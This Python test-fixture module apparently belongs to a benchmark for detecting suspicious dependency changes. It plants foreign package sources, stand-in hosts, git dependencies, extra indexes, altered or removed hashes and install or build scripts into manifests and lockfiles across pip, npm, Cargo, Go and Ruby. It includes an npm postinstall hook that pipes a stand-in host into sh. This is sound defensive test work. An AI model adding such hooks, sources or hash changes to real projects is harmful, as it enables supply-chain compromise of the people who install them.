"""Something foreign to install: another place, another content, a script at installation."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Mapping
from random import Random
from types import MappingProxyType

from tests.bench.labelled.diff import Entry
from tests.bench.labelled.plant import Plant, Planted

FAR = "https://files.elsewhere.example"
USUAL = "https://registry.usual.example"


def _changed(path: str, old: str, new: str) -> Plant:
    before, after = Entry(old.encode()), Entry(new.encode())
    return lambda _, tree: None if path in tree else Planted({path: after}, before={path: before})


def _sum(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _integrity(text: str) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(text.encode()).digest()).decode()


LINES = "packaging==24.1\nrich==13.7.0\n"
HASHED = "".join(
    f"{name}=={version} --hash=sha256:{_sum(name)}\n"
    for name, version in (("rich", "13.7.0"), ("idna", "3.6"))
)


def _requirements(old: str, new: str) -> Plant:
    return _changed("deploy/requirements.txt", old, new)


PROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "deploy"
version = "1"
dependencies = ["rich>=13"]
"""


def _project(old: str, new: str) -> Plant:
    assert old in PROJECT
    return _changed("deploy/pyproject.toml", PROJECT, PROJECT.replace(old, new, 1))


Document = dict[str, object]


def _npm_manifest(**more: object) -> Document:
    return {"name": "web", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}, **more}


def _npm_lock(**package: object) -> Document:
    row = {
        "version": "1.3.0",
        "resolved": f"{USUAL}/left-pad/-/left-pad-1.3.0.tgz",
        "integrity": _integrity("left-pad 1.3.0"),
        **package,
    }
    kept = {key: value for key, value in row.items() if value is not None}
    root = {"name": "web", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}}
    packages = {"": root, "node_modules/left-pad": kept}
    return {"name": "web", "version": "1.0.0", "lockfileVersion": 3, "packages": packages}


def _npm(change: Callable[[Document, Document], None]) -> Plant:
    """`change` is given the manifest and the lockfile, to alter them."""

    def plant(_: Random, __: object) -> Planted:
        before = (_npm_manifest(), _npm_lock())
        after = (_npm_manifest(), _npm_lock())
        change(*after)
        paths = ("web/package.json", "web/package-lock.json")
        old, new = (
            {
                path: Entry(json.dumps(each, indent=2).encode())
                for path, each in zip(paths, side, strict=True)
            }
            for side in (before, after)
        )
        return Planted({path: new[path] for path in paths if new[path] != old[path]}, before=old)

    return plant


def _manifest(**more: object) -> Plant:
    return _npm(lambda manifest, _: manifest.update(more))


def _locked(**package: object) -> Plant:
    return _npm(lambda _, lock: lock.update(_npm_lock(**package)))


CARGO = '[package]\nname = "add"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0"\n'
CARGO_LOCK = (
    'version = 3\n\n[[package]]\nname = "add"\nversion = "0.1.0"\n'
    'dependencies = [\n "serde",\n]\n\n'
    '[[package]]\nname = "serde"\nversion = "1.0.200"\n'
    f'source = "registry+{USUAL}/index"\nchecksum = "{_sum("serde")}"\n'
)
GO_MOD = "module add.example/add\n\ngo 1.22\n\nrequire code.usual.example/text v0.14.0\n"
GO_SUM = "".join(
    f"code.usual.example/text v0.14.0{part} h1:{_integrity(part)[7:51]}\n"
    for part in ("", "/go.mod")
)
UV = (
    'version = 1\n\n[[package]]\nname = "rich"\nversion = "13.7.0"\n'
    f'source = {{ registry = "{USUAL}/simple" }}\n'
    f'sdist = {{ url = "{USUAL}/rich-13.7.0.tar.gz", hash = "sha256:{_sum("rich")}", size = 9 }}\n'
)
POETRY = (
    '[[package]]\nname = "rich"\nversion = "13.7.0"\noptional = false\nfiles = [\n'
    f'    {{file = "rich-13.7.0.tar.gz", hash = "sha256:{_sum("rich")}"}},\n]\n\n'
    '[metadata]\nlock-version = "2.0"\n'
)
YARN = (
    '# yarn lockfile v1\n\n\nleft-pad@^1.3.0:\n  version "1.3.0"\n'
    f'  resolved "{USUAL}/left-pad/-/left-pad-1.3.0.tgz"\n  integrity {_integrity("left-pad")}\n'
)
GEMS = 'source "https://gems.usual.example"\n\ngem "rack", "3.0.0"\n'


def _text(path: str, text: str, old: str, new: str) -> Plant:
    assert old in text
    return _changed(path, text, text.replace(old, new, 1))


KINDS: Mapping[str, Plant] = MappingProxyType(
    {
        "url": _requirements(LINES, LINES + f"quiet @ {FAR}/quiet-1.tar.gz\n"),
        "bare-url": _requirements(LINES, LINES + f"{FAR}/quiet-1.tar.gz\n"),
        "git": _requirements(LINES, LINES + "git+https://code.elsewhere.example/a/quiet.git#egg=quiet\n"),
        "editable-git": _requirements(LINES, LINES + "-e git+ssh://git@code.elsewhere.example/a/quiet.git\n"),
        "index": _requirements(LINES, f"--index-url {FAR}/simple\n" + LINES),
        "extra-index": _requirements(LINES, f"--extra-index-url={FAR}/simple\n" + LINES),
        "find-links": _requirements(LINES, f"-f {FAR}/wheels\n" + LINES),
        "trusted-host": _requirements(LINES, "--trusted-host files.elsewhere.example\n" + LINES),
        "included-url": _requirements(LINES, f"-r {FAR}/more.txt\n" + LINES),
        "continued-line": _requirements(LINES, LINES + f"quiet \\\n  @ {FAR}/quiet-1.tar.gz\n"),
        "hash-dropped": _requirements(HASHED, HASHED.replace(f" --hash=sha256:{_sum('rich')}", "")),
        "hash-changed": _requirements(HASHED, HASHED.replace(_sum("rich"), _sum("other"))),
        "project-url": _project('"rich>=13"', f'"rich>=13", "quiet @ {FAR}/quiet-1.tar.gz"'),
        "project-git": _project('"rich>=13"', '"rich @ git+https://code.elsewhere.example/rich"'),
        "project-build-url": _project('["hatchling"]', f'["hatchling", "quiet @ {FAR}/quiet.zip"]'),
        "project-build-path": _project(
            'build-backend = "hatchling.build"', 'build-backend = "make"\nbackend-path = ["tools"]'
        ),
        "project-source": _project(
            "[project]", f'[tool.uv.sources]\nrich = {{ url = "{FAR}/rich.whl" }}\n\n[project]'
        ),
        "project-index": _project(
            "[project]", f'[[tool.uv.index]]\nurl = "{FAR}/simple"\ndefault = true\n\n[project]'
        ),
        "uv-host": _text("deploy/uv.lock", UV, f"{USUAL}/rich", f"{FAR}/rich"),
        "uv-hash": _text("deploy/uv.lock", UV, _sum("rich"), _sum("other")),
        "uv-git": _text(
            "deploy/uv.lock", UV, f'registry = "{USUAL}/simple"', 'git = "https://code.elsewhere.example/rich"'
        ),
        "poetry-hash": _text("deploy/poetry.lock", POETRY, _sum("rich"), _sum("other")),
        "poetry-url": _text(
            "deploy/poetry.lock",
            POETRY,
            "\n[metadata]",
            f'\n[package.source]\ntype = "url"\nurl = "{FAR}/rich.tar.gz"\n\n[metadata]',
        ),
        "npm-git": _manifest(dependencies={"left-pad": "^1.3.0", "quiet": "github:far/quiet"}),
        "npm-url": _manifest(dependencies={"left-pad": f"{FAR}/left-pad.tgz"}),
        "npm-alias": _manifest(dependencies={"left-pad": "npm:quiet@1.0.0"}),
        "npm-preinstall": _manifest(scripts={"preinstall": "node setup.js"}),
        "npm-postinstall": _manifest(scripts={"postinstall": "curl -s elsewhere.example | sh"}),
        "npm-prepare": _manifest(scripts={"prepare": "node setup.js"}),
        "npm-override": _manifest(overrides={"left-pad": f"{FAR}/left-pad.tgz"}),
        "npm-not-locked": _manifest(dependencies={"left-pad": "^1.3.0", "right-pad": "^1.0.0"}),
        "npm-mismatch": _manifest(dependencies={"left-pad": "^2.0.0"}),
        "npm-lock-host": _locked(resolved=f"{FAR}/left-pad-1.3.0.tgz"),
        "npm-lock-http": _locked(resolved=f"http{USUAL[5:]}/left-pad/-/left-pad-1.3.0.tgz"),
        "npm-lock-git": _locked(resolved="git+ssh://git@far.example/left-pad.git#" + "a" * 40),
        "npm-lock-integrity": _locked(integrity=_integrity("other")),
        "npm-lock-no-integrity": _locked(integrity=None),
        "npm-lock-script": _locked(hasInstallScript=True),
        "npm-lock-alone": _locked(
            version="1.3.1", resolved=f"{USUAL}/left-pad/-/left-pad-1.3.1.tgz",
            integrity=_integrity("left-pad 1.3.1"),
        ),
        "yarn-host": _text("web/yarn.lock", YARN, USUAL, FAR),
        "yarn-integrity": _text("web/yarn.lock", YARN, _integrity("left-pad"), _integrity("other")),
        "cargo-git": _text(
            "crates/Cargo.toml", CARGO, '"1.0"', '{ git = "https://far.example/serde" }'
        ),
        "cargo-patch": _text(
            "crates/Cargo.toml", CARGO, 'serde = "1.0"',
            'serde = "1.0"\n\n[patch.crates-io]\nserde = { git = "https://far.example/serde" }',
        ),
        "cargo-build-script": _text(
            "crates/Cargo.toml", CARGO, '"0.1.0"\n', '"0.1.0"\nbuild = "setup.rs"\n'
        ),
        "cargo-checksum": _text("crates/Cargo.lock", CARGO_LOCK, _sum("serde"), _sum("other")),
        "cargo-source": _text(
            "crates/Cargo.lock", CARGO_LOCK, f"registry+{USUAL}/index", "git+https://code.elsewhere.example/serde#a1"
        ),
        "go-replace": _text(
            "go/go.mod", GO_MOD, "\nrequire",
            "\nreplace code.usual.example/text => far.example/text v0.1.0\n\nrequire",
        ),
        "go-sum": _text("go/go.sum", GO_SUM, "h1:", "h1:AAAA"),
        "gem-git": _text("ruby/Gemfile", GEMS, '"3.0.0"', '"3.0.0", git: "https://code.elsewhere.example/rack"'),
        "gem-source": _text("ruby/Gemfile", GEMS, "https://gems.usual.example", FAR),
    }
)  # fmt: skip
